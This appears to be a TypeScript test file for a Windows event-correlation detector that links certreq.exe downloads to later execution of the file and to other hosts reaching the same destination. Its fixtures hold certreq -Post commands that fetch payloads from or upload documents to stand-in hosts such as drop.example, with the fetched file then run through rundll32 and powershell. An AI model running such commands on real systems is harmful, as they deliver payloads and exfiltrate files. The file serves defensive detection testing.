/**
 * procwatch.extent: the certreq download whose file later ran (escalated, linked both ways), and the other
 * hosts and alerts that reached the same destination. Crafted events (support/events.ts), scanned the way
 * `scan` does it: observe everything, alert on some, finalize.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { absolutePath } from '../../src/correlate/extent.js';
import { Correlator } from '../../src/correlate/index.js';
import type { Alert, RuleMeta } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, CMD, detections, rule, sec4688, sysmonDns, sysmonNetwork, sysmonStart } from './support/events.js';

type Executed = { pid?: number; guid?: string; image?: string; command_line?: string; start?: string; alert_id?: string };
type Extent = {
  executed?: Executed[];
  executed_truncated?: true;
  downloaded_by?: { alert_id: string; file?: string; url?: string }[];
  downloaded_by_truncated?: true;
  destination?: {
    url_host?: string;
    resolved_ips?: string[];
    hosts?: { host: string; processes: { pid?: number; guid?: string; image?: string; via: string; reached: string }[]; truncated?: true }[];
    hosts_truncated?: true;
    alerts?: { alert_id: string; host: string; same: string }[];
    alerts_truncated?: true;
  };
};

const DROPPER = rule('suspicious-binary-in-public', 'medium', 'Binary run from C:\\Users\\Public');
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const RUNDLL32 = 'C:\\Windows\\System32\\rundll32.exe';

/** Observe every event; raise `rules(ev)` on it when non-empty; finalize. */
function scan(events: WinEvent[], rules: (ev: WinEvent) => RuleMeta[], c = new Correlator()): Alert[] {
  const raised: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    const r = rules(ev);
    if (r.length > 0) raised.push(...c.alertsFor(ev, detections(ev, ...r)));
  }
  return c.finalize(raised);
}
const imageOf = (ev: WinEvent): string => String(ev.data['Image'] ?? ev.data['NewProcessName'] ?? '').toLowerCase();
const certreqOnly = (ev: WinEvent): RuleMeta[] => ([1, 4688].includes(ev.system.eventId) && imageOf(ev).endsWith('certreq.exe') ? [BUILTIN] : []);
const extentOf = (a: Alert | undefined): Extent | undefined => a?.context?.['extent'] as Extent | undefined;
const withCwd = (ev: WinEvent, cwd: string): WinEvent => ((ev.data['CurrentDirectory'] = cwd), ev);

/** WS01: certreq downloads a relative `update.dat` in C:\Users\Public; rundll32 and powershell run it later. */
function downloadStory(): WinEvent[] {
  return [
    // Before the download: the same path ran already (not caused by it).
    sysmonStart({ time: '2026-03-01T09:00:00.000Z', guid: 'g-early', pid: 3000, image: RUNDLL32, cmd: 'rundll32.exe C:\\Users\\Public\\update.dat,Start' }),
    withCwd(sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-cmd', pid: 5000, image: CMD, cmd: 'cmd.exe' }), 'C:\\Users\\Public\\'),
    withCwd(sysmonStart({
      time: '2026-03-01T10:00:01.000Z', guid: 'g-certreq', pid: 5100, ppid: 5000, parentGuid: 'g-cmd', image: CERTREQ, ofn: 'CertReq.exe',
      cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini update.dat',
    }), 'C:\\Users\\Public\\'),
    // The file itself, named through a device prefix and in another case.
    sysmonStart({ time: '2026-03-01T10:00:05.000Z', guid: 'g-run', pid: 5200, image: '\\\\?\\C:\\USERS\\PUBLIC\\UPDATE.DAT', cmd: 'UPDATE.DAT' }),
    // A script host whose command line names it (forward slashes).
    sysmonStart({ time: '2026-03-01T10:00:06.000Z', guid: 'g-ps', pid: 5300, image: POWERSHELL, cmd: 'powershell -c "Start-Process C:/Users/Public/update.dat"' }),
    // Not runs: another certreq writing the same file, the same path on another host, a host naming another file.
    sysmonStart({ time: '2026-03-01T10:00:07.000Z', guid: 'g-cmd2', pid: 5400, image: CMD, cmd: 'cmd /c certreq -Post -config https://drop.example/q C:\\Windows\\win.ini C:\\Users\\Public\\update.dat' }),
    sysmonStart({ host: 'WS02', time: '2026-03-01T10:00:08.000Z', guid: 'g-other-host', pid: 5200, image: 'C:\\Users\\Public\\update.dat', cmd: 'update.dat' }),
    sysmonStart({ time: '2026-03-01T10:00:09.000Z', guid: 'g-ps2', pid: 5500, image: POWERSHELL, cmd: 'powershell -c C:\\Users\\Public\\update.dat.bak' }),
  ];
}

test('the downloaded file that ran: listed, the download escalated to critical, and linked both ways', () => {
  const alerts = scan(downloadStory(), (ev) => {
    if (certreqOnly(ev).length > 0) return [BUILTIN];
    return ev.data['ProcessGuid'] === '{g-run}' ? [DROPPER] : [];
  });
  const download = alerts.find((a) => a.event.data['ProcessGuid'] === '{g-certreq}')!;
  const run = alerts.find((a) => a.rule.id === DROPPER.id)!;
  assert.ok(download && run);
  const ran = extentOf(download)!.executed!;
  assert.deepEqual(ran.map((r) => [r.pid, r.guid]), [[5200, 'g-run'], [5300, 'g-ps']]);
  assert.deepEqual(ran[0], {
    pid: 5200, guid: 'g-run', image: '\\\\?\\C:\\USERS\\PUBLIC\\UPDATE.DAT', command_line: 'UPDATE.DAT', start: '2026-03-01T10:00:05.000Z', alert_id: run.id,
  });
  assert.equal(ran[1]!.alert_id, undefined, 'powershell raised no alert of its own');
  // High by grade (a .dat download), critical because it ran; incidents take the escalated severity.
  assert.equal(download.context!.severity, 'critical');
  assert.match(download.context!.reason!, /^download: .* and the downloaded file update\.dat ran at 2026-03-01T10:00:05\.000Z as PID 5200 \(and 1 more process\)$/);
  assert.equal(download.context!.incident!.severity, 'critical');
  assert.deepEqual(extentOf(run), { downloaded_by: [{ alert_id: download.id, file: 'update.dat', url: 'https://drop.example/p' }] });
  assert.equal(run.context!.severity, 'medium', 'the run itself keeps its own severity');
});

test('a relative response file without a CurrentDirectory (4688) is not guessed; an absolute one matches 4688 runs', () => {
  const events = [
    sec4688({ time: '2026-03-01T10:00:00.000Z', pid: 0x100, ppid: 0x10, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini a.exe' }),
    sec4688({ time: '2026-03-01T10:00:01.000Z', pid: 0x200, ppid: 0x10, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini "C:\\ProgramData\\b.exe"' }),
    sec4688({ time: '2026-03-01T10:00:02.000Z', pid: 0x300, ppid: 0x10, image: 'C:\\Users\\bob\\a.exe', cmd: 'a.exe' }),
    sec4688({ time: '2026-03-01T10:00:03.000Z', pid: 0x400, ppid: 0x10, image: 'C:\\ProgramData\\B.EXE', cmd: 'b.exe' }),
  ];
  const [first, second] = scan(events, certreqOnly);
  assert.equal(extentOf(first)?.executed, undefined);
  assert.deepEqual(extentOf(second)!.executed!.map((r) => r.pid), [0x400]);
  assert.match(second!.context!.reason!, /ran at 2026-03-01T10:00:03\.000Z as PID 1024$/);
});

test('path comparison: device prefixes, case, slashes, dot segments, relative against the directory, variables refused', () => {
  assert.equal(absolutePath('\\??\\C:\\Users\\Public\\X.exe'), 'c:\\users\\public\\x.exe');
  assert.equal(absolutePath('\\\\?\\C:/Users/Public/./tmp/../X.exe'), 'c:\\users\\public\\x.exe');
  assert.equal(absolutePath('"C:\\A B\\x.exe"'), 'c:\\a b\\x.exe');
  assert.equal(absolutePath('..\\x.exe', 'C:\\Users\\Public\\'), 'c:\\users\\x.exe');
  assert.equal(absolutePath('\\x.exe', 'D:\\work'), 'd:\\x.exe');
  assert.equal(absolutePath('x.exe'), undefined, 'relative without a directory');
  assert.equal(absolutePath('%TEMP%\\x.exe'), undefined);
  assert.equal(absolutePath('$env:TEMP\\x.exe'), undefined);
  assert.equal(absolutePath('\\\\?\\UNC\\srv\\share\\x.exe'), '\\\\srv\\share\\x.exe');
  assert.equal(absolutePath(`C:\\${'a'.repeat(3000)}`), undefined, 'beyond 2048 characters is not compared');
});

/** WS01 downloads from drop.example; WS02 resolves it, WS03 connects to the resolved address, WS04 elsewhere. */
function destinationStory(): WinEvent[] {
  return [
    sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-c1', pid: 100, image: CERTREQ, cmd: 'certreq -Post -config https://Drop.Example/p C:\\Users\\bob\\Documents\\q.xlsx' }),
    sysmonDns({ time: '2026-03-01T10:00:00.100Z', guid: 'g-c1', pid: 100, query: 'drop.example', results: '::ffff:198.51.100.7;' }),
    sysmonDns({ host: 'WS02', time: '2026-03-01T11:00:00.000Z', guid: 'g-w2', pid: 200, query: 'drop.example', results: 'type:  5 cdn.drop.example;::ffff:198.51.100.8;' }),
    sysmonNetwork({ host: 'WS03', time: '2026-03-01T11:30:00.000Z', guid: 'g-w3', pid: 300, ip: '198.51.100.8', port: 443 }),
    sysmonNetwork({ host: 'WS04', time: '2026-03-01T11:40:00.000Z', guid: 'g-w4', pid: 400, ip: '203.0.113.1', hostname: 'elsewhere.example', port: 443 }),
    // WS05 alerts with the same URL; WS06 uploads the same document to another URL; WS07 neither.
    sysmonStart({ host: 'WS05', time: '2026-03-01T12:00:00.000Z', guid: 'g-c5', pid: 500, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini' }),
    sysmonStart({ host: 'WS06', time: '2026-03-01T12:10:00.000Z', guid: 'g-c6', pid: 600, image: CERTREQ, cmd: 'certreq -Post -config https://other.example/u c:\\users\\BOB\\documents\\Q.XLSX' }),
    sysmonStart({ host: 'WS07', time: '2026-03-01T12:20:00.000Z', guid: 'g-c7', pid: 700, image: CERTREQ, cmd: 'certreq -Post -config https://third.example/u C:\\Windows\\win.ini' }),
  ];
}

test('same destination: other hosts by DNS name or resolved address, other alerts by URL or uploaded file', () => {
  const alerts = scan(destinationStory(), certreqOnly);
  const byHost = new Map(alerts.map((a) => [a.event.system.computer, a]));
  const d = extentOf(byHost.get('WS01'))!.destination!;
  assert.equal(d.url_host, 'drop.example');
  assert.deepEqual(d.resolved_ips, ['198.51.100.7', '198.51.100.8']);
  assert.deepEqual(d.hosts!.map((h) => [h.host, h.processes.map((p) => [p.guid, p.via, p.reached])]), [
    ['ws02', [['g-w2', 'dns', 'drop.example']]],
    ['ws03', [['g-w3', 'network', '198.51.100.8']]],
  ]);
  assert.deepEqual(d.alerts!.map((a) => [a.host, a.same]), [['WS05', 'url'], ['WS06', 'upload_file']]);
  // WS05's URL host was reached by WS01 (DNS + the certreq itself) and WS02/WS03; WS07 relates to nothing.
  assert.deepEqual(extentOf(byHost.get('WS05'))!.destination!.hosts!.map((h) => h.host), ['ws01', 'ws02', 'ws03']);
  assert.equal(extentOf(byHost.get('WS07')), undefined);
  assert.equal(byHost.get('WS05')!.context!.severity, 'high', 'a shared destination does not change severity');
});

test('limits: executed, hosts, processes per host and related alerts are capped and say so', () => {
  const events: WinEvent[] = [
    withCwd(sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-c', pid: 1, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini x.exe' }), 'C:\\Temp'),
  ];
  for (let i = 0; i < 25; i++) events.push(sysmonStart({ time: `2026-03-01T10:01:${String(i).padStart(2, '0')}.000Z`, guid: `g-x${i}`, pid: 1000 + i, image: 'C:\\Temp\\x.exe', cmd: 'x.exe' }));
  for (let h = 0; h < 25; h++) {
    for (let p = 0; p < (h === 0 ? 12 : 1); p++) events.push(sysmonNetwork({ host: `H${h}`, time: '2026-03-01T10:02:00.000Z', guid: `g-h${h}-${p}`, pid: 2000 + p, ip: '198.51.100.7', hostname: 'drop.example', port: 443 }));
  }
  for (let i = 0; i < 25; i++) events.push(sysmonStart({ host: `A${i}`, time: '2026-03-01T10:03:00.000Z', guid: `g-a${i}`, pid: 3000, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini' }));
  const alerts = scan(events, certreqOnly);
  const e = extentOf(alerts.find((a) => a.event.data['ProcessGuid'] === '{g-c}'))!;
  assert.equal(e.executed!.length, 20);
  assert.equal(e.executed_truncated, true);
  assert.match(alerts[0]!.context!.reason!, /as PID 1000 \(and 24 more processes\)$/);
  const d = e.destination!;
  assert.equal(d.hosts!.length, 20);
  assert.equal(d.hosts_truncated, true);
  assert.equal(d.hosts![0]!.host, 'h0');
  assert.equal(d.hosts![0]!.processes.length, 10);
  assert.equal(d.hosts![0]!.truncated, true);
  assert.equal(d.alerts!.length, 20);
  assert.equal(d.alerts_truncated, true);
});

test('extent forgets what the process index evicted', () => {
  // WS02 resolved the URL's host long before WS01's download; then unrelated connections fill the index.
  const story = [
    sysmonDns({ host: 'WS02', time: '2026-03-01T09:00:00.000Z', guid: 'g-w2', pid: 200, query: 'drop.example', results: '198.51.100.8;' }),
    sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-c1', pid: 100, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini' }),
    ...Array.from({ length: 5 }, (_, i) => sysmonNetwork({ host: 'WS09', time: '2026-03-01T10:01:00.000Z', guid: `g-f${i}`, pid: 900 + i, ip: '192.0.2.1', port: 80 })),
  ];
  const full = scan(story, certreqOnly);
  assert.deepEqual(extentOf(full[0])!.destination!.hosts!.map((h) => h.host), ['ws02']);
  // Capacity 6: WS02's DNS record is the one evicted, and with it what extent knew of WS02.
  const small = scan(story, certreqOnly, new Correlator({ indexCapacity: 6 }));
  assert.equal(small.length, 1);
  assert.equal(extentOf(small[0]), undefined);
});

test('alerts that concern no download, URL or upload carry no extent at all', () => {
  const events = [
    sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-a', pid: 1, image: CMD, cmd: 'cmd.exe /c whoami' }),
    sysmonStart({ time: '2026-03-01T10:00:01.000Z', guid: 'g-b', pid: 2, image: CERTREQ, cmd: 'certreq -submit -config "CA01\\Corp CA" req.req' }),
  ];
  const alerts = scan(events, () => [BUILTIN]);
  assert.equal(alerts.length, 2);
  for (const a of alerts) assert.equal('extent' in (a.context ?? {}), false);
});

test('a download run only through a script host says which one', () => {
  const events = [
    withCwd(sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-c', pid: 1, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini C:\\ProgramData\\k.bin' }), 'C:\\'),
    sysmonStart({ time: '2026-03-01T10:00:02.000Z', guid: 'g-r', pid: 2, image: RUNDLL32, cmd: 'rundll32.exe "C:\\ProgramData\\k.bin",DllMain' }),
  ];
  const [a] = scan(events, certreqOnly);
  assert.equal(a!.context!.severity, 'critical');
  assert.match(a!.context!.reason!, /and the downloaded file C:\\ProgramData\\k\.bin ran via rundll32\.exe at 2026-03-01T10:00:02\.000Z as PID 2$/);
});

test('limits: downloaded_by links and resolved addresses shown are capped', () => {
  const events: WinEvent[] = [];
  for (let i = 0; i < 21; i++) {
    events.push(sysmonStart({ host: 'WS01', time: `2026-03-01T10:00:${String(i).padStart(2, '0')}.000Z`, guid: `g-c${i}`, pid: 100 + i, image: CERTREQ, cmd: `certreq -Post -config https://d${i}.example/p C:\\Windows\\win.ini C:\\Temp\\x.exe` }));
  }
  const ips = Array.from({ length: 20 }, (_, i) => `::ffff:198.51.100.${i + 1}`).join(';');
  events.push(sysmonDns({ host: 'WS02', time: '2026-03-01T10:00:30.000Z', guid: 'g-w2', pid: 200, query: 'd0.example', results: `${ips};` }));
  events.push(sysmonStart({ host: 'WS01', time: '2026-03-01T10:01:00.000Z', guid: 'g-run', pid: 300, image: 'C:\\Temp\\x.exe', cmd: 'x.exe' }));
  const alerts = scan(events, (ev) => (ev.data['ProcessGuid'] === '{g-run}' ? [DROPPER] : certreqOnly(ev)));
  const run = extentOf(alerts.find((a) => a.rule.id === DROPPER.id))!;
  assert.equal(run.downloaded_by!.length, 20);
  assert.equal(run.downloaded_by_truncated, true);
  assert.equal(alerts.filter((a) => / ran at 2026-03-01T10:01:00\.000Z as PID 300$/.test(a.context!.reason!)).length, 21, 'every download of the file that ran says so');
  const first = extentOf(alerts[0])!.destination!;
  assert.equal(first.resolved_ips!.length, 16);
  assert.deepEqual(first.hosts!.map((h) => h.host), ['ws02']);
});
